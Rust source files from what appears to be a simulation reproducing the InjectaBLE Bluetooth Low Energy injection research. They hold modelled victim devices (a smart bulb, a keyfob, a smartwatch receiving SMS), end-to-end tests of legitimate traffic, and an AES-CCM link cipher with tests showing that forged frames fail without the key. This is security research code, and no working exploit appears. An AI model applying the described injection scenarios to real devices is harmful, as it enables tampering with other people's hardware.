//! lightbulb, a keyfob and a smartwatch" — driven by a smartphone Central.
//! That hardware is replaced here by behavioural models running on the full
//! `ble-link`/`ble-host` stack:
//!
//! * [`Lightbulb`] — vendor control characteristic: power, RGB colour,
//!   brightness (the device used for all three sensitivity experiments);
//! * [`Keyfob`] — Immediate Alert profile: the attacker makes it ring;
//! * [`Smartwatch`] — message characteristic: the attacker forges an SMS;
//! * [`Central`] — a smartphone-like initiator that establishes (and
//!   re-establishes) connections and drives the peripherals.
//!
//! All of them are [`ble_phy::RadioListener`]s; add them to a
//! [`ble_phy::Simulation`] and bootstrap with [`ble_phy::Simulation::with_ctx`].

#![warn(missing_docs)]
#![forbid(unsafe_code)]

mod bulb;
mod central;
mod keyfob;
mod peripheral;
mod watch;

pub use bulb::{
    payloads as bulb_payloads, BulbApp, Lightbulb, BULB_CONTROL_UUID, BULB_SERVICE_UUID,
};
pub use central::{Central, CENTRAL_SLOTS};
pub use keyfob::{Keyfob, KeyfobApp};
pub use peripheral::{Peripheral, PeripheralApp, APP_TIMER_BASE};
pub use watch::{Smartwatch, WatchApp, WATCH_MESSAGE_UUID, WATCH_SERVICE_UUID};
