//! The smartwatch — paper scenario A: "transmitting a forged SMS to the
//! watch"; scenario D: rewriting an SMS on the fly in a Man-in-the-Middle.

use ble_host::{gatt::props, HostEvent, HostStack, Uuid};
use ble_link::{AddressType, DeviceAddress, SleepClockAccuracy};
use simkit::SimRng;

use crate::bulb::adv_data_with_name;
use crate::peripheral::{host_with_gap, Peripheral, PeripheralApp};

/// The watch's vendor messaging service.
pub const WATCH_SERVICE_UUID: Uuid = Uuid::Short(0xFFA0);
/// The characteristic the phone writes SMS text to.
pub const WATCH_MESSAGE_UUID: Uuid = Uuid::Short(0xFFA1);

/// The watch application state.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct WatchApp {
    /// Every message displayed, in arrival order.
    pub inbox: Vec<Vec<u8>>,
    message_handle: u16,
}

impl PeripheralApp for WatchApp {
    fn handle_event(&mut self, _host: &mut HostStack, event: &HostEvent) {
        let HostEvent::Written { handle, value, .. } = event else {
            return;
        };
        if *handle == self.message_handle {
            self.inbox.push(value.to_vec());
        }
    }
}

/// A simulated smartwatch receiving SMS-style messages.
pub type Smartwatch = Peripheral<WatchApp>;

impl Smartwatch {
    /// Creates a smartwatch.
    ///
    /// # Example
    ///
    /// ```
    /// use ble_devices::Smartwatch;
    /// use simkit::SimRng;
    /// let watch = Smartwatch::new(0xCC, SimRng::seed_from(1));
    /// assert!(watch.app.inbox.is_empty());
    /// ```
    pub fn new(addr_seed: u8, rng: SimRng) -> Smartwatch {
        let address = DeviceAddress::new([addr_seed; 6], AddressType::Public);
        let (mut host, _) = host_with_gap(address, "SmartWatch", rng);
        let message_handle = host
            .server_mut()
            .service(WATCH_SERVICE_UUID)
            .characteristic(
                WATCH_MESSAGE_UUID,
                props::WRITE | props::WRITE_WITHOUT_RESPONSE,
                vec![],
            )
            .finish();
        let app = WatchApp {
            inbox: Vec::new(),
            message_handle,
        };
        Peripheral::assemble(
            address,
            SleepClockAccuracy::Ppm50,
            host,
            app,
            adv_data_with_name("SmartWatch"),
        )
    }

    /// Handle of the message characteristic.
    pub fn message_handle(&self) -> u16 {
        self.app.message_handle
    }

    /// The inbox as strings (lossy) for assertions and demos.
    pub fn inbox_strings(&self) -> Vec<String> {
        self.app
            .inbox
            .iter()
            .map(|m| String::from_utf8_lossy(m).into_owned())
            .collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn messages_accumulate_in_order() {
        let mut watch = Smartwatch::new(0xCC, SimRng::seed_from(1));
        let h = watch.message_handle();
        let (mut host, _) = host_with_gap(
            DeviceAddress::new([1; 6], AddressType::Public),
            "x",
            SimRng::seed_from(2),
        );
        for text in [b"hello".to_vec(), b"world".to_vec()] {
            watch.app.handle_event(
                &mut host,
                &HostEvent::Written {
                    handle: h,
                    value: text.into(),
                    acknowledged: true,
                },
            );
        }
        assert_eq!(watch.inbox_strings(), vec!["hello", "world"]);
    }
}
