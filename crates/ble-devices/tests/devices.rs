//! End-to-end device tests: a Central drives the three victim devices over
//! the simulated radio, exactly like the paper's legitimate traffic.

use std::cell::RefCell;
use std::rc::Rc;

use ble_devices::{bulb_payloads, Central, Keyfob, Lightbulb, Smartwatch};
use ble_host::HostEvent;
use ble_link::ConnectionParams;
use ble_phy::{Environment, NodeConfig, Position, Simulation};
use simkit::{DriftClock, Duration, SimRng};

fn sim(seed: u64) -> Simulation {
    Simulation::new(Environment::indoor_default(), SimRng::seed_from(seed))
}

fn clock(rng: &mut SimRng) -> DriftClock {
    DriftClock::with_random_error(50.0, rng).with_jitter_us(1.0)
}

#[test]
fn central_turns_the_bulb_on_and_recolours_it() {
    let mut rng = SimRng::seed_from(1);
    let mut sim = sim(2);
    let bulb = Rc::new(RefCell::new(Lightbulb::new(0xB1, rng.fork())));
    let control = bulb.borrow().control_handle();
    let params = ConnectionParams::typical(&mut rng, 36);
    let mut central_obj = Central::new(0xA0, bulb.borrow().ll.address(), params, rng.fork());
    central_obj.on_connect_writes = vec![
        (control, bulb_payloads::power_on(), true),
        (control, bulb_payloads::colour(255, 0, 0), true),
    ];
    let central = Rc::new(RefCell::new(central_obj));

    let b = sim.add_node(
        NodeConfig::new("bulb", Position::new(0.0, 0.0)).with_clock(clock(&mut rng)),
        bulb.clone(),
    );
    let c = sim.add_node(
        NodeConfig::new("phone", Position::new(2.0, 0.0)).with_clock(clock(&mut rng)),
        central.clone(),
    );
    sim.with_ctx(b, |ctx| bulb.borrow_mut().start(ctx));
    sim.with_ctx(c, |ctx| central.borrow_mut().start(ctx));
    sim.run_for(Duration::from_secs(2));

    let bulb = bulb.borrow();
    assert!(bulb.app.on, "bulb turned on");
    assert_eq!(bulb.app.rgb, (255, 0, 0), "bulb recoloured");
    assert_eq!(bulb.connections, 1);
    let central = central.borrow();
    assert_eq!(central.connections, 1);
    assert!(
        central
            .event_log
            .iter()
            .filter(|e| matches!(e, HostEvent::WriteConfirmed))
            .count()
            >= 2
    );
}

#[test]
fn central_rings_the_keyfob() {
    let mut rng = SimRng::seed_from(3);
    let mut sim = sim(4);
    let fob = Rc::new(RefCell::new(Keyfob::new(0xF0, rng.fork())));
    let alert = fob.borrow().alert_handle();
    let params = ConnectionParams::typical(&mut rng, 24);
    let mut central_obj = Central::new(0xA0, fob.borrow().ll.address(), params, rng.fork());
    central_obj.on_connect_writes = vec![(alert, vec![2], false)];
    let central = Rc::new(RefCell::new(central_obj));
    let f = sim.add_node(
        NodeConfig::new("fob", Position::new(0.0, 0.0)).with_clock(clock(&mut rng)),
        fob.clone(),
    );
    let c = sim.add_node(
        NodeConfig::new("phone", Position::new(1.0, 0.0)).with_clock(clock(&mut rng)),
        central.clone(),
    );
    sim.with_ctx(f, |ctx| fob.borrow_mut().start(ctx));
    sim.with_ctx(c, |ctx| central.borrow_mut().start(ctx));
    sim.run_for(Duration::from_secs(2));
    assert_eq!(fob.borrow().app.rings, 1);
    assert_eq!(fob.borrow().app.alert_level, 2);
}

#[test]
fn central_sends_sms_to_the_watch() {
    let mut rng = SimRng::seed_from(5);
    let mut sim = sim(6);
    let watch = Rc::new(RefCell::new(Smartwatch::new(0xCC, rng.fork())));
    let msg = watch.borrow().message_handle();
    let params = ConnectionParams::typical(&mut rng, 36);
    let mut central_obj = Central::new(0xA0, watch.borrow().ll.address(), params, rng.fork());
    central_obj.on_connect_writes = vec![(msg, b"SMS: meeting at noon".to_vec(), true)];
    let central = Rc::new(RefCell::new(central_obj));
    let w = sim.add_node(
        NodeConfig::new("watch", Position::new(0.0, 0.0)).with_clock(clock(&mut rng)),
        watch.clone(),
    );
    let c = sim.add_node(
        NodeConfig::new("phone", Position::new(1.5, 0.0)).with_clock(clock(&mut rng)),
        central.clone(),
    );
    sim.with_ctx(w, |ctx| watch.borrow_mut().start(ctx));
    sim.with_ctx(c, |ctx| central.borrow_mut().start(ctx));
    sim.run_for(Duration::from_secs(2));
    assert_eq!(
        watch.borrow().inbox_strings(),
        vec!["SMS: meeting at noon".to_string()]
    );
}

#[test]
fn central_reconnects_after_disconnection() {
    let mut rng = SimRng::seed_from(7);
    let mut sim = sim(8);
    let bulb = Rc::new(RefCell::new(Lightbulb::new(0xB1, rng.fork())));
    let params = ConnectionParams::typical(&mut rng, 24);
    let central = Rc::new(RefCell::new(Central::new(
        0xA0,
        bulb.borrow().ll.address(),
        params,
        rng.fork(),
    )));
    let b = sim.add_node(
        NodeConfig::new("bulb", Position::new(0.0, 0.0)).with_clock(clock(&mut rng)),
        bulb.clone(),
    );
    let c = sim.add_node(
        NodeConfig::new("phone", Position::new(2.0, 0.0)).with_clock(clock(&mut rng)),
        central.clone(),
    );
    sim.with_ctx(b, |ctx| bulb.borrow_mut().start(ctx));
    sim.with_ctx(c, |ctx| central.borrow_mut().start(ctx));
    sim.run_for(Duration::from_secs(1));
    assert_eq!(central.borrow().connections, 1);
    // Tear the connection down from the central side.
    central.borrow_mut().ll.request_disconnect(0x13);
    sim.run_for(Duration::from_secs(2));
    let central = central.borrow();
    let bulb = bulb.borrow();
    assert!(
        central.connections >= 2,
        "reconnected ({})",
        central.connections
    );
    assert!(bulb.connections >= 2, "bulb re-advertised and reconnected");
    assert!(central.ll.is_connected() && bulb.ll.is_connected());
}

#[test]
fn pairing_and_encryption_through_real_devices() {
    let mut rng = SimRng::seed_from(9);
    let mut sim = sim(10);
    let bulb = Rc::new(RefCell::new(Lightbulb::new(0xB1, rng.fork())));
    let control = bulb.borrow().control_handle();
    let params = ConnectionParams::typical(&mut rng, 24);
    let mut central_obj = Central::new(0xA0, bulb.borrow().ll.address(), params, rng.fork());
    central_obj.pair_on_connect = true;
    let central = Rc::new(RefCell::new(central_obj));
    let b = sim.add_node(
        NodeConfig::new("bulb", Position::new(0.0, 0.0)).with_clock(clock(&mut rng)),
        bulb.clone(),
    );
    let c = sim.add_node(
        NodeConfig::new("phone", Position::new(2.0, 0.0)).with_clock(clock(&mut rng)),
        central.clone(),
    );
    sim.with_ctx(b, |ctx| bulb.borrow_mut().start(ctx));
    sim.with_ctx(c, |ctx| central.borrow_mut().start(ctx));
    sim.run_for(Duration::from_secs(3));
    assert!(
        central.borrow().host.is_encrypted(),
        "central link encrypted"
    );
    assert!(bulb.borrow().host.is_encrypted(), "bulb link encrypted");
    // Application traffic still works over the encrypted link.
    central
        .borrow_mut()
        .write(control, bulb_payloads::power_on());
    sim.run_for(Duration::from_secs(1));
    assert!(bulb.borrow().app.on, "encrypted write applied");
}

#[test]
fn two_independent_connections_coexist() {
    let mut rng = SimRng::seed_from(11);
    let mut sim = sim(12);
    let bulb = Rc::new(RefCell::new(Lightbulb::new(0xB1, rng.fork())));
    let fob = Rc::new(RefCell::new(Keyfob::new(0xF0, rng.fork())));
    let bulb_control = bulb.borrow().control_handle();
    let fob_alert = fob.borrow().alert_handle();
    let p1 = ConnectionParams::typical(&mut rng, 36);
    let p2 = ConnectionParams::typical(&mut rng, 24);
    let mut c1 = Central::new(0xA0, bulb.borrow().ll.address(), p1, rng.fork());
    c1.on_connect_writes = vec![(bulb_control, bulb_payloads::power_on(), true)];
    let mut c2 = Central::new(0xA1, fob.borrow().ll.address(), p2, rng.fork());
    c2.on_connect_writes = vec![(fob_alert, vec![1], false)];
    let c1 = Rc::new(RefCell::new(c1));
    let c2 = Rc::new(RefCell::new(c2));
    let nodes: Vec<(&str, Position)> = vec![
        ("bulb", Position::new(0.0, 0.0)),
        ("fob", Position::new(5.0, 5.0)),
        ("phone1", Position::new(1.0, 0.0)),
        ("phone2", Position::new(5.0, 6.0)),
    ];
    let b = sim.add_node(
        NodeConfig::new(nodes[0].0, nodes[0].1).with_clock(clock(&mut rng)),
        bulb.clone(),
    );
    let f = sim.add_node(
        NodeConfig::new(nodes[1].0, nodes[1].1).with_clock(clock(&mut rng)),
        fob.clone(),
    );
    let n1 = sim.add_node(
        NodeConfig::new(nodes[2].0, nodes[2].1).with_clock(clock(&mut rng)),
        c1.clone(),
    );
    let n2 = sim.add_node(
        NodeConfig::new(nodes[3].0, nodes[3].1).with_clock(clock(&mut rng)),
        c2.clone(),
    );
    sim.with_ctx(b, |ctx| bulb.borrow_mut().start(ctx));
    sim.with_ctx(f, |ctx| fob.borrow_mut().start(ctx));
    sim.with_ctx(n1, |ctx| c1.borrow_mut().start(ctx));
    sim.with_ctx(n2, |ctx| c2.borrow_mut().start(ctx));
    sim.run_for(Duration::from_secs(3));
    assert!(bulb.borrow().app.on);
    assert_eq!(fob.borrow().app.rings, 1);
    assert!(c1.borrow().ll.is_connected());
    assert!(c2.borrow().ll.is_connected());
}
