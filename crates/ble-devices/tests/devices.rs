//! End-to-end device tests: a Central drives the three victim devices over
//! the simulated radio, exactly like the paper's legitimate traffic.

use ble_devices::{bulb_payloads, Central, Keyfob, Lightbulb, Smartwatch};
use ble_host::HostEvent;
use ble_link::ConnectionParams;
use ble_phy::{NodeConfig, Position};
use ble_scenario::{DeviceKind, ScenarioBuilder};
use simkit::{DriftClock, Duration, SimRng};

#[test]
fn central_turns_the_bulb_on_and_recolours_it() {
    let mut s = ScenarioBuilder::legit(1).world_seed(2).build();
    let control = s.victim_control_handle();
    s.central_mut().on_connect_writes = vec![
        (control, bulb_payloads::power_on(), true),
        (control, bulb_payloads::colour(255, 0, 0), true),
    ];
    s.run_for(Duration::from_secs(2));

    let bulb = s.victim::<Lightbulb>();
    assert!(bulb.app.on, "bulb turned on");
    assert_eq!(bulb.app.rgb, (255, 0, 0), "bulb recoloured");
    assert_eq!(bulb.connections, 1);
    let central = s.central();
    assert_eq!(central.connections, 1);
    assert!(
        central
            .event_log
            .iter()
            .filter(|e| matches!(e, HostEvent::WriteConfirmed))
            .count()
            >= 2
    );
}

#[test]
fn central_rings_the_keyfob() {
    let mut s = ScenarioBuilder::legit(3)
        .world_seed(4)
        .device(DeviceKind::Keyfob)
        .hop_interval(24)
        .central_distance(1.0)
        .build();
    let alert = s.victim_control_handle();
    s.central_mut().on_connect_writes = vec![(alert, vec![2], false)];
    s.run_for(Duration::from_secs(2));
    assert_eq!(s.victim::<Keyfob>().app.rings, 1);
    assert_eq!(s.victim::<Keyfob>().app.alert_level, 2);
}

#[test]
fn central_sends_sms_to_the_watch() {
    let mut s = ScenarioBuilder::legit(5)
        .world_seed(6)
        .device(DeviceKind::Smartwatch)
        .central_distance(1.5)
        .build();
    let msg = s.victim_control_handle();
    s.central_mut().on_connect_writes = vec![(msg, b"SMS: meeting at noon".to_vec(), true)];
    s.run_for(Duration::from_secs(2));
    assert_eq!(
        s.victim::<Smartwatch>().inbox_strings(),
        vec!["SMS: meeting at noon".to_string()]
    );
}

#[test]
fn central_reconnects_after_disconnection() {
    let mut s = ScenarioBuilder::legit(7)
        .world_seed(8)
        .hop_interval(24)
        .build();
    s.run_for(Duration::from_secs(1));
    assert_eq!(s.central().connections, 1);
    // Tear the connection down from the central side.
    s.central_mut().ll.request_disconnect(0x13);
    s.run_for(Duration::from_secs(2));
    let central = s.central();
    let bulb = s.victim::<Lightbulb>();
    assert!(
        central.connections >= 2,
        "reconnected ({})",
        central.connections
    );
    assert!(bulb.connections >= 2, "bulb re-advertised and reconnected");
    assert!(central.ll.is_connected() && bulb.ll.is_connected());
}

#[test]
fn pairing_and_encryption_through_real_devices() {
    let mut s = ScenarioBuilder::legit(9)
        .world_seed(10)
        .hop_interval(24)
        .build();
    let control = s.victim_control_handle();
    s.central_mut().pair_on_connect = true;
    s.run_for(Duration::from_secs(3));
    assert!(s.central().host.is_encrypted(), "central link encrypted");
    assert!(
        s.victim::<Lightbulb>().host.is_encrypted(),
        "bulb link encrypted"
    );
    // Application traffic still works over the encrypted link.
    s.central_mut().write(control, bulb_payloads::power_on());
    s.run_for(Duration::from_secs(1));
    assert!(s.victim::<Lightbulb>().app.on, "encrypted write applied");
}

#[test]
fn two_independent_connections_coexist() {
    // Two victim/central pairs in one room: this topology is beyond the
    // single-victim builder, so it drives the arena API directly.
    use ble_phy::{Environment, Simulation};
    let mut rng = SimRng::seed_from(11);
    let mut sim = Simulation::new(Environment::indoor_default(), SimRng::seed_from(12));
    let clock = |rng: &mut SimRng| DriftClock::with_random_error(50.0, rng).with_jitter_us(1.0);
    let bulb = Lightbulb::new(0xB1, rng.fork());
    let fob = Keyfob::new(0xF0, rng.fork());
    let bulb_control = bulb.control_handle();
    let fob_alert = fob.alert_handle();
    let p1 = ConnectionParams::typical(&mut rng, 36);
    let p2 = ConnectionParams::typical(&mut rng, 24);
    let mut c1 = Central::new(0xA0, bulb.ll.address(), p1, rng.fork());
    c1.on_connect_writes = vec![(bulb_control, bulb_payloads::power_on(), true)];
    let mut c2 = Central::new(0xA1, fob.ll.address(), p2, rng.fork());
    c2.on_connect_writes = vec![(fob_alert, vec![1], false)];
    let b = sim.add_node(
        NodeConfig::new("bulb", Position::new(0.0, 0.0)).with_clock(clock(&mut rng)),
        bulb,
    );
    let f = sim.add_node(
        NodeConfig::new("fob", Position::new(5.0, 5.0)).with_clock(clock(&mut rng)),
        fob,
    );
    let n1 = sim.add_node(
        NodeConfig::new("phone1", Position::new(1.0, 0.0)).with_clock(clock(&mut rng)),
        c1,
    );
    let n2 = sim.add_node(
        NodeConfig::new("phone2", Position::new(5.0, 6.0)).with_clock(clock(&mut rng)),
        c2,
    );
    for id in [b, f, n1, n2] {
        sim.start(id);
    }
    sim.run_for(Duration::from_secs(3));
    assert!(sim.node::<Lightbulb>(b).unwrap().app.on);
    assert_eq!(sim.node::<Keyfob>(f).unwrap().app.rings, 1);
    assert!(sim.node::<Central>(n1).unwrap().ll.is_connected());
    assert!(sim.node::<Central>(n2).unwrap().ll.is_connected());
}
