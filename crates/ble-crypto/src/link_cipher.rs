//! The per-connection BLE packet cipher (Core Spec Vol 6, Part E).
//!
//! After the encryption-start procedure, each data-channel PDU payload is
//! encrypted with AES-CCM under the *session key* `SK = AES(LTK, SKD)`,
//! where `SKD = SKDm || SKDs` is exchanged in `LL_ENC_REQ` / `LL_ENC_RSP`.
//! The 13-byte CCM nonce is built from a 39-bit per-direction packet
//! counter, a direction bit and the 8-byte IV (`IVm || IVs`). The AAD is the
//! first PDU header byte with the NESN, SN and MD bits masked to zero.
//!
//! For the InjectaBLE reproduction, the important consequence is: an
//! attacker who does not know the LTK cannot produce a payload whose MIC
//! verifies — an injected frame is discarded by the Slave's Link Layer
//! (denial of service at worst), which is the paper's §VIII countermeasure
//! argument.

use crate::aes::Aes128;
use crate::ccm::{self, CcmError, MIC_LEN, NONCE_LEN};

/// Direction of a data PDU, determining which packet counter and nonce
/// direction bit are used.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Direction {
    /// Master → Slave.
    MasterToSlave,
    /// Slave → Master.
    SlaveToMaster,
}

/// The key material both sides contribute during encryption setup.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct SessionKeyMaterial {
    /// Master's session key diversifier half (`SKDm`).
    pub skd_m: [u8; 8],
    /// Slave's session key diversifier half (`SKDs`).
    pub skd_s: [u8; 8],
    /// Master's IV half (`IVm`).
    pub iv_m: [u8; 4],
    /// Slave's IV half (`IVs`).
    pub iv_s: [u8; 4],
}

impl SessionKeyMaterial {
    /// The concatenated session key diversifier `SKD = SKDm || SKDs`
    /// (little-endian convention: master half in the least significant
    /// position).
    pub fn skd(&self) -> [u8; 16] {
        let mut out = [0u8; 16];
        out[..8].copy_from_slice(&self.skd_m);
        out[8..].copy_from_slice(&self.skd_s);
        out
    }

    /// The concatenated IV.
    pub fn iv(&self) -> [u8; 8] {
        let mut out = [0u8; 8];
        out[..4].copy_from_slice(&self.iv_m);
        out[4..].copy_from_slice(&self.iv_s);
        out
    }
}

/// Stateful packet cipher for one encrypted connection.
///
/// Holds the session cipher, IV and both directions' packet counters.
///
/// # Example
///
/// ```
/// use ble_crypto::{Direction, LinkCipher, SessionKeyMaterial};
/// let ltk = [0x4C; 16];
/// let material = SessionKeyMaterial {
///     skd_m: [1; 8], skd_s: [2; 8], iv_m: [3; 4], iv_s: [4; 4],
/// };
/// let mut master = LinkCipher::new(&ltk, &material);
/// let mut slave = LinkCipher::new(&ltk, &material);
/// let sealed = master.encrypt(Direction::MasterToSlave, 0x02, b"secret");
/// let opened = slave.decrypt(Direction::MasterToSlave, 0x02, &sealed).unwrap();
/// assert_eq!(opened, b"secret");
/// ```
#[derive(Clone)]
pub struct LinkCipher {
    session: Aes128,
    iv: [u8; 8],
    tx_counter_m2s: u64,
    tx_counter_s2m: u64,
}

impl std::fmt::Debug for LinkCipher {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("LinkCipher")
            .field("tx_counter_m2s", &self.tx_counter_m2s)
            .field("tx_counter_s2m", &self.tx_counter_s2m)
            .finish_non_exhaustive()
    }
}

impl LinkCipher {
    /// Derives the session key from the long-term key and the exchanged
    /// material, and initialises both packet counters to zero.
    pub fn new(ltk: &[u8; 16], material: &SessionKeyMaterial) -> Self {
        let session_key = Aes128::new(ltk).encrypt_block(&material.skd());
        LinkCipher {
            session: Aes128::new(&session_key),
            iv: material.iv(),
            tx_counter_m2s: 0,
            tx_counter_s2m: 0,
        }
    }

    fn nonce(&self, direction: Direction, counter: u64) -> [u8; NONCE_LEN] {
        let mut nonce = [0u8; NONCE_LEN];
        // 39-bit counter, little-endian, in bytes 0..5; bit 7 of byte 4 is
        // the direction bit (1 = master→slave).
        let c = counter & 0x7F_FFFF_FFFF;
        nonce[..5].copy_from_slice(&c.to_le_bytes()[..5]);
        if direction == Direction::MasterToSlave {
            nonce[4] |= 0x80;
        }
        nonce[5..].copy_from_slice(&self.iv);
        nonce
    }

    /// Masks the PDU header byte for use as AAD: NESN (bit 2), SN (bit 3)
    /// and MD (bit 4) are zeroed because they may legitimately be changed by
    /// retransmission without re-encryption.
    pub fn masked_header(header: u8) -> u8 {
        header & 0b1110_0011
    }

    /// Encrypts an outgoing payload, consuming one packet counter value for
    /// `direction`. Returns ciphertext with the 4-byte MIC appended.
    pub fn encrypt(&mut self, direction: Direction, header: u8, payload: &[u8]) -> Vec<u8> {
        let mut out = Vec::with_capacity(payload.len() + MIC_LEN);
        out.extend_from_slice(payload);
        let mic = self.encrypt_in_place(direction, header, &mut out);
        out.extend_from_slice(&mic);
        out
    }

    /// Encrypts `payload` in place (consuming one packet counter value for
    /// `direction`) and returns the 4-byte MIC the caller appends. The
    /// allocation-free form of [`LinkCipher::encrypt`].
    pub fn encrypt_in_place(
        &mut self,
        direction: Direction,
        header: u8,
        payload: &mut [u8],
    ) -> [u8; MIC_LEN] {
        let counter = self.advance(direction);
        let nonce = self.nonce(direction, counter);
        let mic = ccm::encrypt_in_place(
            &self.session,
            &nonce,
            &[Self::masked_header(header)],
            payload,
            MIC_LEN,
        );
        let mut out = [0u8; MIC_LEN];
        for (o, m) in out.iter_mut().zip(mic.iter()) {
            *o = *m;
        }
        out
    }

    /// Decrypts an incoming payload using the receive counter for
    /// `direction` (which equals the peer's transmit counter), consuming it
    /// on success. On MIC failure the counter is *not* consumed, mirroring
    /// real Link Layers that drop the packet and keep state.
    ///
    /// # Errors
    ///
    /// Returns [`CcmError`] when the MIC does not verify.
    pub fn decrypt(
        &mut self,
        direction: Direction,
        header: u8,
        sealed: &[u8],
    ) -> Result<Vec<u8>, CcmError> {
        let mut buf = sealed.to_vec();
        let n = self.decrypt_in_place(direction, header, &mut buf)?;
        buf.truncate(n);
        Ok(buf)
    }

    /// Decrypts `sealed` (ciphertext + 4-byte MIC) in place using the
    /// receive counter for `direction`, consuming it on success; the
    /// plaintext then occupies `sealed[..returned_len]`. On MIC failure the
    /// counter is *not* consumed and the buffer is restored, mirroring real
    /// Link Layers that drop the packet and keep state.
    ///
    /// # Errors
    ///
    /// Returns [`CcmError`] when the MIC does not verify.
    pub fn decrypt_in_place(
        &mut self,
        direction: Direction,
        header: u8,
        sealed: &mut [u8],
    ) -> Result<usize, CcmError> {
        let counter = self.peek(direction);
        let nonce = self.nonce(direction, counter);
        let n = ccm::decrypt_in_place(
            &self.session,
            &nonce,
            &[Self::masked_header(header)],
            sealed,
            MIC_LEN,
        )?;
        self.advance(direction);
        Ok(n)
    }

    fn peek(&self, direction: Direction) -> u64 {
        match direction {
            Direction::MasterToSlave => self.tx_counter_m2s,
            Direction::SlaveToMaster => self.tx_counter_s2m,
        }
    }

    fn advance(&mut self, direction: Direction) -> u64 {
        match direction {
            Direction::MasterToSlave => {
                let c = self.tx_counter_m2s;
                self.tx_counter_m2s += 1;
                c
            }
            Direction::SlaveToMaster => {
                let c = self.tx_counter_s2m;
                self.tx_counter_s2m += 1;
                c
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn material() -> SessionKeyMaterial {
        SessionKeyMaterial {
            skd_m: [0x11; 8],
            skd_s: [0x22; 8],
            iv_m: [0x33; 4],
            iv_s: [0x44; 4],
        }
    }

    #[test]
    fn two_sides_interoperate_over_many_packets() {
        let ltk = [0xAB; 16];
        let mut master = LinkCipher::new(&ltk, &material());
        let mut slave = LinkCipher::new(&ltk, &material());
        for i in 0..50u8 {
            let m2s = master.encrypt(Direction::MasterToSlave, 0x02, &[i, i + 1]);
            assert_eq!(
                slave.decrypt(Direction::MasterToSlave, 0x02, &m2s).unwrap(),
                vec![i, i + 1]
            );
            let s2m = slave.encrypt(Direction::SlaveToMaster, 0x01, &[i]);
            assert_eq!(
                master
                    .decrypt(Direction::SlaveToMaster, 0x01, &s2m)
                    .unwrap(),
                vec![i]
            );
        }
    }

    #[test]
    fn directions_use_independent_counters_and_nonces() {
        let ltk = [0xAB; 16];
        let mut cipher = LinkCipher::new(&ltk, &material());
        let a = cipher.encrypt(Direction::MasterToSlave, 0x02, b"same");
        let b = cipher.encrypt(Direction::SlaveToMaster, 0x02, b"same");
        assert_ne!(a, b, "direction bit must differentiate nonces");
    }

    #[test]
    fn same_plaintext_different_counter_different_ciphertext() {
        let ltk = [0xAB; 16];
        let mut cipher = LinkCipher::new(&ltk, &material());
        let a = cipher.encrypt(Direction::MasterToSlave, 0x02, b"same");
        let b = cipher.encrypt(Direction::MasterToSlave, 0x02, b"same");
        assert_ne!(a, b);
    }

    #[test]
    fn attacker_without_ltk_cannot_forge() {
        let mut victim = LinkCipher::new(&[0xAB; 16], &material());
        let mut attacker = LinkCipher::new(&[0xCD; 16], &material());
        let forged = attacker.encrypt(Direction::MasterToSlave, 0x02, b"inject");
        assert!(victim
            .decrypt(Direction::MasterToSlave, 0x02, &forged)
            .is_err());
    }

    #[test]
    fn failed_decrypt_does_not_advance_counter() {
        let ltk = [0xAB; 16];
        let mut master = LinkCipher::new(&ltk, &material());
        let mut slave = LinkCipher::new(&ltk, &material());
        let good = master.encrypt(Direction::MasterToSlave, 0x02, b"one");
        // Garbage first: rejected, counter unchanged.
        assert!(slave
            .decrypt(Direction::MasterToSlave, 0x02, b"garbage!")
            .is_err());
        assert_eq!(
            slave
                .decrypt(Direction::MasterToSlave, 0x02, &good)
                .unwrap(),
            b"one"
        );
    }

    #[test]
    fn sn_nesn_md_bits_do_not_affect_aad() {
        // Retransmissions flip SN/NESN/MD without re-encrypting.
        let ltk = [0xAB; 16];
        let mut master = LinkCipher::new(&ltk, &material());
        let mut slave = LinkCipher::new(&ltk, &material());
        let sealed = master.encrypt(Direction::MasterToSlave, 0b0000_0010, b"x");
        let opened = slave
            .decrypt(Direction::MasterToSlave, 0b0001_1110, &sealed)
            .unwrap();
        assert_eq!(opened, b"x");
    }

    #[test]
    fn llid_bits_are_authenticated() {
        let ltk = [0xAB; 16];
        let mut master = LinkCipher::new(&ltk, &material());
        let mut slave = LinkCipher::new(&ltk, &material());
        // LLID (bits 0-1) is part of the masked header: changing 0b10
        // (start) to 0b11 (control) must break the MIC.
        let sealed = master.encrypt(Direction::MasterToSlave, 0b0000_0010, b"x");
        assert!(slave
            .decrypt(Direction::MasterToSlave, 0b0000_0011, &sealed)
            .is_err());
    }

    #[test]
    fn session_key_depends_on_both_skd_halves() {
        let ltk = [0xAB; 16];
        let mut m1 = material();
        let c1 = LinkCipher::new(&ltk, &m1);
        m1.skd_s = [0x23; 8];
        let c2 = LinkCipher::new(&ltk, &m1);
        let mut a = c1.clone();
        let mut b = c2.clone();
        assert_ne!(
            a.encrypt(Direction::MasterToSlave, 0x02, b"p"),
            b.encrypt(Direction::MasterToSlave, 0x02, b"p")
        );
    }

    #[test]
    fn debug_hides_key_material() {
        let cipher = LinkCipher::new(&[0xAB; 16], &material());
        let s = format!("{cipher:?}");
        assert!(!s.to_lowercase().contains("ab"), "{s}");
    }
}
