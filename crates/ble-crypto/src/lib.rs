//! Bluetooth Low Energy link-layer cryptography.
//!
//! The InjectaBLE paper's countermeasure discussion (§VIII) hinges on the
//! BLE encryption stack: when AES-CCM link encryption is active, an injected
//! plaintext frame fails message-integrity checking, limiting the attack's
//! impact to denial of service. To reproduce those experiments this crate
//! implements, from scratch (no external crypto dependencies):
//!
//! * [`Aes128`] — FIPS-197 AES-128 block encryption (the only primitive BLE
//!   security is built on);
//! * [`ccm`] — AES-CCM authenticated encryption with the BLE parameters
//!   (2-byte length field, 4-byte MIC) as specified in Core Spec Vol 6
//!   Part E;
//! * [`LinkCipher`] — the per-connection packet cipher: nonce construction
//!   from packet counters and IV, header masking for additional
//!   authenticated data;
//! * [`pairing`] — the legacy-pairing confirm (`c1`) and key-generation
//!   (`s1`) functions used by the minimal Security Manager in `ble-host`.
//!
//! This is a *simulation-grade* implementation: correct and well-tested, but
//! table-based and not hardened against side channels.

#![warn(missing_docs)]
#![forbid(unsafe_code)]
// Tests may panic freely; the denies below only harden non-test code.
#![cfg_attr(
    test,
    allow(
